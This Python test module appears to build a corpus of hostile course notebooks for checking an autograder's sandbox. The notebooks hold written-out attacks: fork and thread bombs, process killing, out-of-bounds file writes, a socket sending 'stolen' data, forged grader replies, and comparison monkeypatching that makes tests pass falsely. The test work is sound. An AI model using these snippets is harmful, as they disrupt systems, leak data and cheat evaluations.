"""The hostile corpus: notebooks whose solution cells attack the grader, and what each must score.

Each case is one of the course's own notebooks (``solutions/<assignment>/<assignment>.ipynb``) with some of
its solution cells replaced. In a cell's text ``{SOL:<grade_id>}`` stands for the correct solution of that
cell (``{INTER}`` and ``{INTRA}`` for lrn's two), so a case can be hostile *and* correct; ``{MARKER}``,
``{PORT}``, ``{REPO}`` and ``{PEERS}`` are filled in by ``build``.

Every case is graded twice, and has an expectation for each:

- ``expect``: as an instructor grades (``python -m grader grade``): the source is checked against the
  assignment's rules first (``grader.policy``), then runs in the sandbox;
- ``raw``: the sandbox alone (``Grader(check_source=False)``), to show that its containment and the
  grader's validation of every reply hold even for code the rules would have refused. ``None``: not run
  there (a rule only the source check can enforce).

An expectation is ``"zero"``, ``"full"``, the name of a check in ``CHECKS``, or ``"no_gain"``: a case that
fakes its way past the tests gets no point more, test by test, than the same wrong functions submitted
honestly (its ``honest`` cells: an identity earns what leaving the input alone earns, a trick nothing more).

Grow it: add a row. ``python tests/hostile/corpus.py OUTDIR`` writes the notebooks;
``python tests/hostile/corpus.py --table`` grades them both ways and prints the table (case, score, twin).
"""

from __future__ import annotations

import copy
import json
import sys
import textwrap
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
TEMPLATES = {a: ROOT / "solutions" / a / f"{a}.ipynb" for a in ("lrn", "batchnorm", "dropout", "stagewise")}
TEMPLATE = TEMPLATES["lrn"]

#: the limits the corpus runs under (small, so that the timeouts do not dominate the test suite's time)
LIMITS = {"run_timeout": 1.5, "load_timeout": 3.0, "notebook_timeout": 8.0}

#: each assignment's solution cells (grade ids) and their signatures, for stubs and one-body cases
SIGNATURES = {
    "lrn": {"lrn_inter": "lrn_inter(a, n, k, alpha, beta)", "lrn_intra": "lrn_intra(a, n, k, alpha, beta)"},
    "batchnorm": {"batchnorm_forward": "batchnorm_forward(x, gamma, beta, running_mean, running_var, training, "
                                       "momentum=0.1, eps=1e-5)",
                  "batchnorm_backward": "batchnorm_backward(dout, cache)"},
    "dropout": {"dropout_forward": "dropout_forward(x, p, training, generator=None)",
                "dropout_backward": "dropout_backward(dout, mask, p)"},
    "stagewise": {"stagewise_sgd": "stagewise_sgd(w0, grad_fn, stage_lrs, iters_per_stage)"},
}


def src(text: str) -> str:
    return textwrap.dedent(text).strip("\n")


def both(body: str, head: str = "") -> tuple[str, str]:
    """lrn: both functions with the same body, after ``head`` at the top of the first cell."""
    indented = textwrap.indent(src(body), "    ")
    return (f"{src(head)}\ndef lrn_inter(a, n, k, alpha, beta):\n{indented}\n",
            f"def lrn_intra(a, n, k, alpha, beta):\n{indented}\n")


def each(assignment: str, bodies: dict[str, str], head: str = "") -> dict[str, str]:
    """Every solution cell of ``assignment``: the function with its body from ``bodies`` (a stub raising
    NotImplementedError where none is given), ``head`` at the top of the first cell."""
    cells = {}
    for i, (gid, signature) in enumerate(SIGNATURES[assignment].items()):
        body = textwrap.indent(src(bodies.get(gid, "raise NotImplementedError()")), "    ")
        cells[gid] = (src(head) + "\n" if i == 0 and head else "") + f"def {signature}:\n{body}\n"
    return cells


def stubs(assignment: str) -> dict[str, str]:
    """The released notebook's state: every function raises NotImplementedError."""
    return each(assignment, {})


def first(head: str, assignment: str = "lrn") -> dict[str, str]:
    """The correct functions, with ``head`` run before them at the top of the first cell."""
    gids = list(SIGNATURES[assignment])
    return {gid: (src(head) + "\n" if i == 0 else "") + "{SOL:" + gid + "}" for i, gid in enumerate(gids)}


def case(name, what, cells, expect, *, assignment="lrn", raw="same", honest=None, **extra):
    if isinstance(cells, tuple):  # lrn's (inter, intra) pair
        cells = dict(zip(SIGNATURES["lrn"], cells, strict=True))
    if isinstance(honest, str):   # lrn: one body for both functions
        honest = dict(zip(SIGNATURES["lrn"], both(honest), strict=True))
    elif isinstance(honest, tuple):
        honest = dict(zip(SIGNATURES["lrn"], honest, strict=True))
    return {"name": name, "what": what, "assignment": assignment, "cells": cells, "expect": expect,
            "raw": expect if raw == "same" else raw, "honest": honest, **extra}


def hack(name, what, cells, honest, *, raw="no_gain", **extra):
    """A case that cheats: it must earn no more than ``honest``, the same wrong answer without tricks."""
    return case(name, what, cells, "no_gain", raw=raw, honest=honest, **extra)


CORRECT = ("{INTER}", "{INTRA}")
LOOP_FOREVER = "while True:\n    pass"

# the sandbox's containment: with the rules on, each of these loses its forbidden lines and earns what the
# rest earns (nothing more than its honest twin); without them, the sandbox alone holds
CONTAINMENT = [
    case("correct", "the instructor's solution, as a student would submit it", CORRECT, "full"),
    case("infinite_loop", "both functions loop forever", both(LOOP_FOREVER), "zero"),
    hack("ignore_sigterm", "ignores SIGTERM and SIGINT, then sleeps forever in each call", both("""
        import time
        while True:
            time.sleep(0.01)
        """, head="""
        import signal
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        signal.signal(signal.SIGINT, signal.SIG_IGN)
        """), "raise NotImplementedError()", raw="zero"),
    hack("sleep_at_import", "sleeps for an hour at the top level, then defines correct functions",
         first("import time\ntime.sleep(3600)"), CORRECT, raw="zero"),
    hack("memory_hog", "tries to lift its memory limit, then allocates far more than allowed", both("""
        import resource
        try:
            resource.setrlimit(resource.RLIMIT_AS, (-1, -1))
        except Exception:
            pass
        hog = []
        while True:
            hog.append(bytearray(2**27))
        """), "raise NotImplementedError()", raw="zero"),
    case("memory_hog_torch", "asks torch for a terabyte", both("return torch.empty(2**40) + a.sum()"),
         "zero"),
    hack("fork_bomb", "forks until the process limit, children sleep forever; wrong functions",
         both("return a.clone()", head="""
        import os
        for _ in range(100000):
            try:
                pid = os.fork()
            except OSError:
                break
            if pid == 0:
                os.execvp('sleep', ['sleep', '{MARKER}'])
        """), "return a.clone()"),
    hack("setsid_left_behind", "correct, but starts daemons with setsid and a double fork", first("""
        import os, subprocess
        subprocess.Popen(['sleep', '{MARKER}'], start_new_session=True)
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.execvp('sleep', ['sleep', '{MARKER}'])
            os._exit(0)
        """), CORRECT, raw="full"),
    # graded beside its twin (--jobs 2): the twin, correct, must keep its full marks, its control group its CPU
    hack("cpu_hog", "starts 31 busy processes at the top level, then defines correct functions", first("""
        import os, time
        for _ in range(31):
            try:
                if os.fork() == 0:
                    _end = time.time() + 30
                    while time.time() < _end:
                        pass
                    os._exit(0)
            except OSError:
                break
        """), CORRECT, twin_full=True),
    hack("thread_bomb", "starts threads until it cannot; wrong functions", both("return a * 0", head="""
        import threading, time
        for _ in range(100000):
            try:
                threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
            except RuntimeError:
                break
        """), "return a * 0"),
    hack("equal_to_everything", "returns an object that equals everything", both("""
        class Anything:
            def __eq__(self, other):
                return True
            def __array__(self, *args, **kwargs):
                import numpy
                return numpy.zeros(a.shape)
        return Anything()
        """), "return a * 0"),
    hack("lying_tensor", "returns a tensor subclass whose comparisons always say 'equal'",
         both("return torch.zeros_like(a).as_subclass(Liar)", head="""
        class Liar(torch.Tensor):
            @classmethod
            def __torch_function__(cls, func, types, args=(), kwargs=None):
                if getattr(func, '__name__', '') in ('allclose', 'equal', '__eq__', 'eq', 'isclose'):
                    return True
                return super().__torch_function__(func, types, args, kwargs or {})
        """), "return torch.zeros_like(a)"),
    hack("monkeypatch_torch", "patches torch and numpy comparisons to always pass, returns zeros",
         both("return torch.zeros_like(a)", head="""
        import numpy, numpy.testing
        torch.allclose = lambda *a, **k: True
        torch.equal = lambda *a, **k: True
        torch.testing.assert_close = lambda *a, **k: None
        torch.Tensor.__eq__ = lambda self, other: torch.ones((), dtype=torch.bool)
        numpy.allclose = lambda *a, **k: True
        numpy.testing.assert_allclose = lambda *a, **k: None
        """), "return torch.zeros_like(a)"),
    hack("monkeypatch_assert", "replaces AssertionError, pytest's approx and unittest's asserts",
         both("return a", head="""
        import builtins, unittest
        builtins.AssertionError = type('AssertionError', (Exception,), {})
        unittest.TestCase.assertEqual = lambda *a, **k: None
        try:
            import pytest
            pytest.approx = lambda *a, **k: a[0] if a else None
        except Exception:
            pass
        """), "return a"),
    hack("fake_results", "prints a perfect score and a fake JSON line; wrong functions",
         both("print('score: 19/19  ALL TESTS PASSED')\nreturn a", head="""
        print('{"notebook": "me.ipynb", "assignment": "lrn", "score": 19.0, "max_score": 19.0, '
              '"tests": [], "error": null}')
        print("\\x1b[2J\\x1b[32mscore: 100\\x1b[0m")
        """), "return a"),
    hack("sys_exit_at_import", "calls sys.exit() at the top of both cells",
         ("import sys\nsys.exit(0)\n{INTER}", "import sys\nsys.exit(0)\n{INTRA}"), CORRECT, raw="zero"),
    case("sys_exit_in_call", "calls sys.exit() in every call", both("import sys\nsys.exit(0)"), "zero"),
    hack("os_exit_at_import", "calls os._exit(0) at the top level", first("import os\nos._exit(0)"), CORRECT,
         raw="zero"),
    case("os_exit_in_call", "calls os._exit(0) in every call", both("import os\nos._exit(0)"), "zero"),
    hack("kill_everything", "correct, but signals every process it can reach (kill -1, its parent)", first("""
        import os, signal
        for target in (-1, os.getppid(), 1):
            try:
                os.kill(target, signal.SIGKILL)
            except OSError:
                pass
        """), CORRECT, raw="full"),
    case("mutates_inputs", "correct values, but zeroes its input in place", tuple(
        f"{{{f.upper()}}}\n_{f} = lrn_{f}\ndef lrn_{f}(a, n, k, alpha, beta):\n"
        f"    b = _{f}(a, n, k, alpha, beta)\n    a.data.zero_()\n    return b\n"
        for f in ("inter", "intra")),
        "inputs_test_fails"),
    case("import_reference", "imports tricksref and the grader's suites to call the reference", both("""
        from tricksref import local_response_norm
        return local_response_norm(a, n, alpha, beta, k, convention='alexnet')
        """, head="""
        try:
            import grader.hidden.lrn, grader.suite
        except ImportError:
            pass
        """), "zero", raw="zero", error="tricksref"),
    # whether the walk ends within the load timeout depends on the disk (a cold cache, a large
    # virtual environment): either way it must not earn more than its fallback submitted honestly
    hack("search_disk", "walks the disk for the reference's source and runs it if found",
         both("return _found(a, n, k, alpha, beta)", head="""
        import os
        _src = None
        for d, dirs, files in os.walk('/'):
            if d.startswith(('/proc', '/sys')):
                dirs[:] = []
                continue
            if d.endswith('tricksref') and 'lrn.py' in files:
                _src = open(os.path.join(d, 'lrn.py')).read()
                break
        def _found(a, n, k, alpha, beta):
            if _src is None:
                return a * 0
            ns = {}
            exec(_src, ns)
            return ns['local_response_norm'](a, n, alpha, beta, k, convention='alexnet')
        """), "return a * 0"),
    hack("read_peers", "tries to read the other notebooks of the class", both(
        "return a * 0 if not _peers else a",
        head="import os\n_peers = [p for p in {PEERS} if os.path.exists(p)]"),
        "return a * 0"),
    hack("write_outside", "correct, but writes files outside its scratch folder", first("""
        for _p in ('{REPO}/PWNED-{MARKER}', '/tmp/PWNED-{MARKER}', '/root/PWNED-{MARKER}'):
            try:
                open(_p, 'w').write('x')
            except OSError:
                pass
        """), CORRECT, raw="full", writes=["{REPO}/PWNED-{MARKER}", "/tmp/PWNED-{MARKER}",
                                            "/root/PWNED-{MARKER}"]),
    hack("network", "opens connections (the grader's machine, the internet); wrong functions",
         both("return a", head="""
        import socket
        for _host, _port in (('127.0.0.1', {PORT}), ('8.8.8.8', 53)):
            try:
                _s = socket.create_connection((_host, _port), timeout=1)
                _s.sendall(b'stolen')
            except OSError:
                pass
        """), "return a"),
    case("flood_stdout", "correct, but prints 20 MB first",
         first("import sys\nfor _ in range(2000):\n    sys.stdout.write('x' * 10000 + '\\n')"), "no_gain",
         honest=dict(zip(SIGNATURES["lrn"], CORRECT, strict=True)), raw="full"),
    hack("flood_stdout_forever", "prints forever at the top level",
         first("while True:\n    print('score: 100 ' * 1000)"), CORRECT, raw="zero"),
    case("segfault", "crashes the interpreter in every call", both("import ctypes\nctypes.string_at(0)"),
         "zero"),
    case("huge_result", "returns a 128 MB tensor", both("return torch.zeros(2**25)"), "zero"),
    case("recursion", "recurses without end", both("return lrn_inter(a, n, k, alpha, beta)"), "zero"),
    hack("forged_reply", "writes a fake 'ok' reply on the grader's channel", both("return a", head="""
        import os, struct
        from grader import transport
        _msg = transport.encode({'results': []})
        for _fd in range(3, 10):
            try:
                os.write(_fd, struct.pack('!Q', len(_msg)) + _msg)
            except OSError:
                pass
        """), "return a"),
    hack("tamper_transport", "replaces the child's encoder and probes to send made-up answers",
         both("return a", head="""
        import grader.transport, grader.probes.lrn
        grader.probes.lrn.forward = lambda ns, **kw: {'results': 'all good'}
        grader.transport.encode = lambda value: b'PK garbage'
        """), "return a"),
    hack("reads_stdin", "waits for input at the top of both cells",
         ("input('password? ')\n{INTER}", "input()\n{INTRA}"), CORRECT, raw="zero"),
    case("syntax_error", "solution cells that do not compile", (
        "def lrn_inter(a, n, k, alpha, beta)\n    return a\n",
        "def lrn_intra(a, n, k, alpha, beta):\n  return (a"),
        "zero", error="does not compile"),
]

# issue 10's attacks on the scoring, each beside its honest twin
_REPLACE_PROBES = {
    "lrn": "import grader.probes.lrn as P\nP.forward = P.grad = lambda ns, **kw: {'results': []}",
    "batchnorm": "import grader.probes.batchnorm as P\nP.forward = P.backward = lambda ns, **kw: {'results': []}",
    "dropout": "import grader.probes.dropout as P\nP.forward = P.backward = lambda ns, **kw: {'results': []}",
    "stagewise": "import grader.probes.stagewise as P\nP.run = lambda ns, **kw: {'results': []}",
}
_GARBAGE = {
    "zeros": {"lrn": "return torch.zeros_like(a)",
              "batchnorm_forward": "return torch.zeros_like(x), None",
              "batchnorm_backward": "return torch.zeros(1), torch.zeros(1), torch.zeros(1)",
              "dropout_forward": "return torch.zeros_like(x), torch.zeros(x.shape, dtype=torch.bool)",
              "dropout_backward": "return torch.zeros_like(dout)",
              "stagewise_sgd": "return [torch.zeros_like(w0) for _ in range(len(stage_lrs) * iters_per_stage)]"},
    "identity": {"lrn": "return a.clone()",
                 "batchnorm_forward": "return x.clone(), None",
                 "batchnorm_backward": "return dout.clone(), None, None",
                 "dropout_forward": "return x.clone(), (None if not training else torch.ones(x.shape, dtype=torch.bool))",
                 "dropout_backward": "return dout.clone()",
                 "stagewise_sgd": "return [w0.clone() for _ in range(len(stage_lrs) * iters_per_stage)]"},
    "nan": {"lrn": "return a * float('nan')",
            "batchnorm_forward": "return x * float('nan'), None",
            "batchnorm_backward": "return dout * float('nan'), None, None",
            "dropout_forward": "return x * float('nan'), torch.ones(x.shape, dtype=torch.bool)",
            "dropout_backward": "return dout * float('nan')",
            "stagewise_sgd": "return [w0 * float('nan') for _ in range(len(stage_lrs) * iters_per_stage)]"},
    "constant": {"lrn": "return torch.full_like(a, 0.25)",
                 "batchnorm_forward": "return torch.full_like(x, 0.25), None",
                 "batchnorm_backward": "return torch.full_like(dout, 0.25), None, None",
                 "dropout_forward": "return torch.full_like(x, 0.25), torch.rand(x.shape) >= p",
                 "dropout_backward": "return torch.full_like(dout, 0.25)",
                 "stagewise_sgd": "return [torch.full_like(w0, 0.25) for _ in range(len(stage_lrs) * iters_per_stage)]"},
}


def _garbage(assignment: str, kind: str) -> dict[str, str]:
    table = _GARBAGE[kind]
    return each(assignment, {gid: table.get(gid, table.get(assignment, "raise NotImplementedError()"))
                             for gid in SIGNATURES[assignment]})


def _dropout_via(call: str) -> dict[str, str]:
    """dropout: the forward through ``call`` (torch's dropout, however it is reached), the mask read off its
    output, and the backward that mask gives."""
    return {"dropout_forward": f"""
            out = {call}(x, p, training)
            return out, (out != 0) if training else None""",
            "dropout_backward": "return dout if mask is None else dout * mask / (1 - p)"}


def _autograd_backward(grad: str, head: str = "") -> dict[str, str]:
    """batchnorm: the correct forward keeping its inputs as the cache, and a backward that runs it again and
    asks ``grad`` (an autograd function, however it is named) for the gradients."""
    return {"batchnorm_forward": head + "{SOL:batchnorm_forward}\n" + src("""
                _fwd = batchnorm_forward
                def batchnorm_forward(x, gamma, beta, running_mean, running_var, training, momentum=0.1, eps=1e-5):
                    out, _ = _fwd(x, gamma, beta, running_mean, running_var, training, momentum, eps)
                    return out, (x, gamma, beta, eps)"""),
            "batchnorm_backward": src(f"""
                def batchnorm_backward(dout, cache):
                    x, gamma, beta, eps = cache
                    x, gamma, beta = (t.detach().requires_grad_(True) for t in (x, gamma, beta))
                    ones = torch.ones(x.shape[1], dtype=x.dtype)
                    with torch.enable_grad():
                        out, _ = _fwd(x, gamma, beta, ones * 0, ones, True, 0.1, eps)
                        return {grad}(out, (x, gamma, beta), dout)""")}


SCORING = [
    *(hack(f"replace_probes_{a}", f"{a}: replaces the grader's probes with ones that report no case",
           each(a, {}, head=_REPLACE_PROBES[a]), stubs(a), assignment=a) for a in _REPLACE_PROBES),
    hack("short_reply", "answers one case where the grader sent many, with the input as the output",
         both("return a.clone()", head="""
        import grader.probes.lrn as P
        P.forward = lambda ns, *, fn, cases: {'results': [{'value': {'out': cases[0]['a'], 'a': cases[0]['a']}}]}
        """), "return a.clone()"),
    hack("frames_after_load", "a thread writes forged replies on the grader's channel after loading",
         both("return a.clone()", head="""
        import os, struct, threading, time
        from grader import transport
        def _forge():
            _msg = transport.encode({'results': [{'value': {'out': None, 'a': None}}]})
            for _ in range(200):
                try:
                    os.write(3, struct.pack('!Q', len(_msg)) + _msg)
                except OSError:
                    return
                time.sleep(0.01)
        threading.Thread(target=_forge, daemon=True).start()
        """), "return a.clone()"),
    hack("guard_removal", "dropout: takes the guard out of the grader's modules, then calls F.dropout",
         each("dropout", _dropout_via("torch.nn.functional.dropout"),
              head="import sys\nsys.modules['grader.guards'].uninstall('dropout')"),
         each("dropout", _dropout_via("torch.nn.functional.dropout")),
         assignment="dropout"),
    # only the source check stops this one: code that can reach torch's private API in the sandbox could pop
    # any guard kept in the process, so the rules refuse that API (underscore attributes) before it runs
    hack("pop_guard_modes", "dropout: pops torch's function and dispatch modes, then calls F.dropout",
         each("dropout", _dropout_via("torch.nn.functional.dropout"),
              head="""
            import torch.utils._python_dispatch as D
            while torch._C._len_torch_function_stack():
                torch._C._pop_torch_function_stack()
            while D._len_torch_dispatch_stack():
                D._pop_mode()"""),
         each("dropout", _dropout_via("torch.nn.functional.dropout")),
         assignment="dropout", raw=None),
    hack("vf_dropout", "dropout: torch._VF.dropout, the kernel behind F.dropout",
         each("dropout", _dropout_via("torch._VF.dropout")),
         each("dropout", _dropout_via("torch.nn.functional.dropout")),
         assignment="dropout"),
    hack("aten_batch_norm", "batchnorm: torch.ops.aten.native_batch_norm and its backward",
         each("batchnorm", {"batchnorm_forward": """
            out, mean, invstd = torch.ops.aten.native_batch_norm(x, gamma, beta, running_mean, running_var,
                                                                 training, momentum, eps)
            return out, (x, gamma, running_mean, running_var, mean, invstd, training, eps)""",
                            "batchnorm_backward": """
            x, gamma, rm, rv, mean, invstd, training, eps = cache
            return torch.ops.aten.native_batch_norm_backward(dout, x, gamma, rm, rv, mean, invstd, training,
                                                             eps, [True, True, True])"""}),
         each("batchnorm", {"batchnorm_forward": """
            out = torch.nn.functional.batch_norm(x, running_mean, running_var, gamma, beta, training, momentum,
                                                 eps)
            return out, (x, gamma, beta, eps)""",
                            "batchnorm_backward": """
            x, gamma, beta, eps = cache
            x, gamma, beta = (t.detach().requires_grad_(True) for t in (x, gamma, beta))
            with torch.enable_grad():
                out = torch.nn.functional.batch_norm(x, None, None, gamma, beta, True, 0.1, eps)
                return torch.autograd.grad(out, (x, gamma, beta), dout)"""}),
         assignment="batchnorm"),
    hack("captured_autograd", "batchnorm: torch.autograd.grad bound at import, used in the backward",
         _autograd_backward("_g", head="_g = torch.autograd.grad\n"), _autograd_backward("torch.autograd.grad"),
         assignment="batchnorm"),
    case("leak_hidden_inputs", "raises an exception whose text is the input it was given",
         both("raise ValueError(repr(a.flatten()[:6].tolist()))"), "no_leak",
         honest="raise ValueError('no')"),
    case("stagewise_optim", "stagewise: torch.optim.SGD (off limits) does the update",
         each("stagewise", {"stagewise_sgd": """
            w = w0.clone().requires_grad_(True)
            opt = torch.optim.SGD([w], lr=stage_lrs[0])
            out, step = [], 0
            for eta in stage_lrs:
                for group in opt.param_groups:
                    group['lr'] = eta
                for _ in range(iters_per_stage):
                    w.grad = grad_fn(w.detach(), step)
                    opt.step()
                    out.append(w.detach().clone())
                    step += 1
            return out"""}), "zero", raw=None, assignment="stagewise"),
    *(case(f"garbage_{kind}_{a}", f"{a}: outputs that ignore the input ({kind})", _garbage(a, kind), "zero",
           assignment=a) for a in ("lrn", "batchnorm", "dropout", "stagewise")
      for kind in ("zeros", "identity", "nan", "constant")),
]

CASES = CONTAINMENT + SCORING

#: files that are not notebooks at all
BROKEN = {
    "not_json": b"this is not a notebook {",
    "no_cells": json.dumps({"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode(),
    "binary": bytes(range(256)) * 16,
    "truncated": None,  # the template cut in half
}


def _hidden_names() -> set[str]:
    from grader.suite import ASSIGNMENTS, tests
    return {t.name for a in ASSIGNMENTS for t in tests(a) if not t.visible}


def passed(result: dict, name: str) -> bool:
    return any(t["name"] == name and t["passed"] for t in result["tests"])


def no_gain(result: dict, honest: dict) -> bool:
    """Test by test, the hostile notebook earns no more than its honest twin."""
    fair = {t["name"]: t["points"] for t in honest["tests"]}
    return bool(result["tests"]) and all(t["points"] <= fair.get(t["name"], 0.0) for t in result["tests"])


def texts(result: dict) -> str:
    return " ".join([result["error"] or ""] + [t["message"] for t in result["tests"]])


_FLOAT = __import__("re").compile(r"-?\d+\.\d{3,}")


def leaks(result: dict) -> list[str]:
    """The hidden tests whose message shows a number with three decimals or more (an input's value)."""
    hidden = _hidden_names()
    return [t["name"] for t in result["tests"] if t["name"] in hidden and _FLOAT.search(t["message"])]


CHECKS = {
    "zero": lambda r, twin: r["score"] == 0.0,
    "full": lambda r, twin: r["score"] == r["max_score"] > 0,
    "inputs_test_fails": lambda r, twin: (not passed(r, "test_lrn_inputs_unmodified")
                                          and 0 < r["score"] < r["max_score"]),
    "no_gain": lambda r, twin: twin is not None and no_gain(r, twin),
    "no_leak": lambda r, twin: twin is not None and no_gain(r, twin) and not leaks(r),
}


def check(c: dict, result: dict, twin: dict | None = None, *, raw: bool = False) -> bool:
    """Whether ``result`` is what case ``c`` must score (``twin``: its honest twin's result; ``raw``: graded
    by the sandbox alone)."""
    expect = c["raw"] if raw else c["expect"]
    return CHECKS[expect](result, twin) and c.get("error", "") in texts(result)


def _subst(text: str, values: dict) -> str:
    for k, v in values.items():
        text = text.replace("{" + k + "}", v)
    return text


def _solutions(nb: dict) -> dict[str, str]:
    found = {}
    for cell in nb["cells"]:
        ng = cell.get("metadata", {}).get("nbgrader", {})
        if ng.get("solution"):
            found[ng["grade_id"]] = "".join(cell["source"])
    return found


def _write(nb: dict, cells: dict[str, str], path: Path) -> Path:
    this = copy.deepcopy(nb)
    for cell in this["cells"]:
        gid = cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")
        if gid in cells:
            cell["source"] = cells[gid]
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(this, indent=1))
    return path


def build(dest: Path, *, port: int = 9, marker: str = "4242.4242", cases: list | None = None
          ) -> list[tuple[Path, dict]]:
    """Write one notebook per case (``<case>/<assignment>.ipynb``) and its honest twin
    (``<case>__honest/...``), and the broken files; return ``[(path, case), ...]`` with the placeholders
    filled in."""
    notebooks = {a: json.loads(t.read_text()) for a, t in TEMPLATES.items()}
    solutions = {a: _solutions(nb) for a, nb in notebooks.items()}
    chosen = cases or CASES
    paths = [dest / c["name"] / f"{c['assignment']}.ipynb" for c in chosen]
    out = []
    for i, c in enumerate(chosen):
        a = c["assignment"]
        values = {"MARKER": f"{marker}{i}", "PORT": str(port), "REPO": str(ROOT),
                  "PEERS": repr([str(p) for p in paths]), "INTER": solutions["lrn"]["lrn_inter"],
                  "INTRA": solutions["lrn"]["lrn_intra"]}
        values.update({f"SOL:{gid}": text for gid, text in solutions[a].items()})
        filled = {k: (_subst(v, values) if isinstance(v, str) else
                      [_subst(x, values) for x in v] if isinstance(v, list) else v) for k, v in c.items()}
        _write(notebooks[a], {gid: _subst(text, values) for gid, text in c["cells"].items()}, paths[i])
        if c.get("honest"):
            filled["twin"] = _write(notebooks[a], {gid: _subst(t, values) for gid, t in c["honest"].items()},
                                    dest / (c["name"] + "__honest") / f"{a}.ipynb")
        out.append((paths[i], filled))
    raw = TEMPLATE.read_bytes()
    for name, data in BROKEN.items():
        path = dest / name / "lrn.ipynb"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(raw[: len(raw) // 2] if data is None else data)
        out.append((path, case(name, "not a readable notebook", CORRECT, "zero")))
    return out


def grade_all(built: list[tuple[Path, dict]], *, check_source: bool, jobs: int = 2) -> dict[str, dict]:
    """Grade every notebook of ``built`` and its twin with one ``Grader``: path -> JSON result."""
    from grader.grading import Grader, grade_in_order
    from grader.sandbox import Limits

    paths = []
    for path, c in built:
        if check_source or c.get("raw") is not None:
            paths += [path] + ([c["twin"]] if "twin" in c else [])
    grader = Grader(limits=Limits(**LIMITS), check_source=check_source)
    try:
        return {str(p): r.to_json() for p, r in zip(paths, grade_in_order(paths, lambda p: grader.grade(str(p)),
                                                                           jobs), strict=True)}
    finally:
        grader.close()


def main(argv: list[str]) -> int:
    import tempfile

    if argv[:1] == ["--table"]:
        sys.path.insert(0, str(ROOT))
        with tempfile.TemporaryDirectory() as tmp:
            built = build(Path(tmp))
            checked, raw = grade_all(built, check_source=True), grade_all(built, check_source=False)
            print("| case | assignment | graded | honest twin | sandbox alone | its twin | ok |")
            print("|---|---|---|---|---|---|---|")
            for path, c in built:
                cells = []
                ok = True
                for results, is_raw in ((checked, False), (raw, True)):
                    r = results.get(str(path))
                    twin = results.get(str(c.get("twin"))) if "twin" in c else None
                    if r is None:
                        cells += ["not run", ""]
                        continue
                    ok &= check(c, r, twin, raw=is_raw)
                    cells += [f"{r['score']:g}/{r['max_score']:g}", f"{twin['score']:g}" if twin else ""]
                print(f"| {c['name']} | {c['assignment']} | " + " | ".join(cells) + f" | {'yes' if ok else 'NO'} |",
                      flush=True)
        return 0
    if len(argv) != 1:
        print(__doc__)
        return 2
    for path, _ in build(Path(argv[0])):
        print(path)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
